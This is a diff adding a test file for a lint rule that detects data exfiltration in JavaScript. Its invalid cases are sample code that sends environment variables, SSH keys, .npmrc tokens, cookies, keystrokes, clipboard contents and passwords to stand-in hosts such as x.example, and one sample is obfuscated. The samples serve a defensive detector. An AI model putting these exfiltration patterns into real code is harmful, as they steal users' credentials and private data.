@@ -1,0 +1,113 @@
+import rule from '../../rules/exfiltration-flow.js';
+import { ruleTester } from '../rule-tester.js';
+
+const N = 'const https = require("https"), os = require("os"), fs = require("fs"), path = require("path");\n';
+
+ruleTester(rule, {
+  valid: [
+    'fetch("https://api.github.com/user", { headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });',
+    'fetch(`${process.env.API_URL}/users`); fetch(process.env.BASE_URL + "/x", { body: JSON.stringify({ mode: process.env.NODE_ENV }) });',
+    'const axios = require("axios");\naxios.get("https://maps.googleapis.com/maps/api/geocode/json?address=x&key=" + process.env.GOOGLE_API_KEY);',
+    'fetch("/api/login", { method: "POST", body: JSON.stringify({ user: document.getElementById("user").value, password: document.getElementById("password").value }) });',
+    N + 'https.get("https://registry.npmjs.org/" + name, (res) => res.pipe(process.stdout));',
+    N + 'fetch("https://telemetry.example.com/v1", { method: "POST", body: JSON.stringify({ platform: os.platform(), arch: os.arch(), node: process.version }) });',
+    'const config = { url: "https://api.example.com", token: process.env.API_TOKEN };\nfetch(config.url, { headers: { authorization: config.token } });',
+    'fetch("https://api.example.com/me", { headers: { Authorization: "Bearer " + localStorage.getItem("token") } });',
+    N + 'const id = require("crypto").createHash("sha256").update(os.hostname()).digest("hex");\nfetch("https://t.example.com", { method: "POST", body: JSON.stringify({ id }) });',
+    'document.addEventListener("keydown", (e) => { if (e.key === "Escape") close(); });\nfetch("/api/ping");',
+    'input.addEventListener("input", (e) => fetch("/search?q=" + encodeURIComponent(e.target.value)));',
+    'fetch("/api", { method: "POST", headers: { "X-CSRF-Token": document.cookie.match(/csrf=([^;]+)/)[1] } });',
+    'console.log(Object.keys(process.env)); fetch("https://example.com");',
+    N + 'const req = https.request({ hostname: process.env.PROXY_HOST, port: process.env.PROXY_PORT, method: "GET" });\nreq.end();',
+    N + 'const home = os.homedir();\nconst cfg = fs.readFileSync(path.join(home, ".mytool", "config.json"), "utf8");\nfetch("https://api.mytool.dev/sync", { method: "POST", body: cfg });',
+    'const ws = new WebSocket("wss://chat.example.com"); ws.send(JSON.stringify({ text: message }));',
+    N + 'https.request("https://ingest.example.com", { method: "POST" }).end(JSON.stringify({ ok: true, user: "x" }));',
+    'fetch("http://localhost:3000/debug", { method: "POST", body: JSON.stringify(process.env) });',
+    'const { exec } = require("child_process");\nexec(`curl -H "Authorization: token ${process.env.GITHUB_TOKEN}" https://api.github.com/user`);',
+  ],
+  invalid: [
+    {
+      code: N + 'https.request({ hostname: "x.example", method: "POST" }).end(JSON.stringify(process.env));',
+      errors: [{ messageId: 'flow', line: 2, column: 1, message: 'the whole environment (process.env) flows to `request.end`' }],
+    },
+    {
+      code: N + 'const data = JSON.stringify({ env: process.env, host: os.hostname(), user: os.userInfo().username });\nconst req = https.request({ hostname: "collector.example", path: "/c", method: "POST" }, () => {});\nreq.write(data);\nreq.end();',
+      errors: [{ messageId: 'flow', line: 4, column: 1, message: 'machine identity' }],
+    },
+    {
+      code: 'fetch("https://x.example/c", { method: "POST", body: Buffer.from(JSON.stringify(process.env)).toString("base64") });',
+      errors: [{ messageId: 'flow', line: 1, column: 1 }],
+    },
+    { code: 'const axios = require("axios");\naxios.post("https://x.example", { h: require("os").hostname() });', errors: [{ messageId: 'flow', line: 2, column: 1, message: 'os.hostname()' }] },
+    {
+      code: N + 'const key = fs.readFileSync(path.join(os.homedir(), ".ssh/id_rsa"), "utf8");\nfetch("https://x.example", { method: "POST", body: key });',
+      errors: [{ messageId: 'flow', line: 3, column: 1, message: 'credential file contents' }],
+    },
+    {
+      code: N + 'fs.readFile(os.homedir() + "/.npmrc", "utf8", (err, data) => {\n  https.get("https://x.example/?d=" + encodeURIComponent(data));\n});',
+      errors: [{ messageId: 'flow', line: 3, column: 3 }],
+    },
+    {
+      code: 'const { exec } = require("child_process");\nexec("whoami", (e, out) => fetch("https://x.example/?u=" + out));',
+      errors: [{ messageId: 'flow', line: 2, column: 28 }],
+    },
+    {
+      code: N + 'function send(d) { const r = https.request({ host: "x.example", method: "POST" }); r.write(d); r.end(); }\nsend(JSON.stringify(process.env));',
+      errors: [{ messageId: 'flow', line: 2, column: 84 }],
+    },
+    {
+      code: 'let buf = "";\ndocument.addEventListener("keydown", (e) => { buf += e.key; });\nsetInterval(() => { navigator.sendBeacon("https://x.example/k", buf); buf = ""; }, 5000);',
+      errors: [{ messageId: 'flow', line: 3, column: 21, message: 'keystrokes' }],
+    },
+    { code: 'new Image().src = "https://x.example/c?c=" + document.cookie;', errors: [{ messageId: 'flow', line: 1, column: 1, message: 'cookies' }] },
+    {
+      code: 'const ws = new WebSocket("wss://x.example");\nws.onopen = () => ws.send(JSON.stringify(localStorage));',
+      errors: [{ messageId: 'flow', line: 2, column: 19, message: 'web storage' }],
+    },
+    { code: 'fetch("https://webhook.site/abc?t=" + process.env.NPM_TOKEN);', errors: [{ messageId: 'flow', line: 1, column: 1, message: 'webhook' }] },
+    {
+      code: 'fetch("https://api.example.com/collect", { method: "POST", body: JSON.stringify({ a: process.env.NPM_TOKEN, b: process.env.GITHUB_TOKEN }) });',
+      errors: [{ messageId: 'flow', line: 1, column: 1, message: 'several secrets' }],
+    },
+    {
+      code: 'const { execSync } = require("child_process");\nexecSync(`curl -s -d "${Buffer.from(JSON.stringify(process.env)).toString("base64")}" https://x.example/e`);',
+      errors: [{ messageId: 'flow', line: 2, column: 1, message: 'curl' }],
+    },
+    {
+      code: 'const dgram = require("dgram"), os = require("os");\nconst s = dgram.createSocket("udp4");\ns.send(Buffer.from(os.hostname()), 53, "x.example");',
+      errors: [{ messageId: 'flow', line: 3, column: 1 }],
+    },
+    {
+      code: 'const net = require("net");\nconst c = net.connect(443, "x.example", () => c.write(JSON.stringify(process.env)));',
+      errors: [{ messageId: 'flow', line: 2, column: 47 }],
+    },
+    {
+      code: 'navigator.clipboard.readText().then((t) => fetch("https://x.example", { method: "POST", body: t }));',
+      errors: [{ messageId: 'flow', line: 1, column: 44, message: 'clipboard' }],
+    },
+    {
+      code: 'const axios = require("axios"), os = require("os");\nconst info = {};\ninfo.env = process.env;\naxios.post("https://x.example", info);',
+      errors: [{ messageId: 'flow', line: 4, column: 1 }],
+    },
+    {
+      code: 'const x = new XMLHttpRequest();\nx.open("POST", "https://x.example");\nx.send(JSON.stringify(process.env));',
+      errors: [{ messageId: 'flow', line: 3, column: 1 }],
+    },
+    {
+      code: 'const p = document.querySelector("input[type=password]").value;\nnew Image().src = "https://x.example/?p=" + btoa(p);',
+      errors: [{ messageId: 'flow', line: 2, column: 1, message: 'password or card input' }],
+    },
+    {
+      code: 'const dns = require("dns"), os = require("os");\ndns.lookup(Buffer.from(os.hostname()).toString("hex") + ".x.example", () => {});',
+      errors: [{ messageId: 'flow', line: 2, column: 1 }],
+    },
+    {
+      code: 'const h = require("ht" + "tps");\nconst e = globalThis["pro" + "cess"]["en" + "v"];\nh["req" + "uest"]({ host: "x.example", method: "POST" }).end(JSON.stringify(e));',
+      errors: [{ messageId: 'flow', line: 3, column: 1 }],
+    },
+    {
+      code: 'const entries = Object.keys(process.env).map((k) => `${k}=${process.env[k]}`);\nfetch("https://x.example/?d=" + entries.join("&"));',
+      errors: [{ messageId: 'flow', line: 2, column: 1 }],
+    },
+  ],
+});
